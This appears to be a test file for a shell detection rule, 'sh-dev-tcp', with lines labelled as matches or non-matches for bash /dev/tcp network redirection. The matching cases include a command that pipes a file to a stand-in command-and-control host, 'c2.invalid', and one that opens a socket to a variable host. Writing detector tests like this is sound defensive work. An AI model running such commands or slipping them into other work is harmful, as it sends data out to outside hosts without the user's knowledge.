# ruleid: sh-dev-tcp
cat a > /dev/tcp/c2.invalid/80
# ruleid: sh-dev-tcp
exec 3<>/dev/tcp/${H}/80
# ok: sh-dev-tcp
echo > /dev/tcp/127.0.0.1/80
# ok: sh-dev-tcp
# exec 3<>/dev/tcp/h/80
# ok: sh-dev-tcp
exec 3<>/dev/null
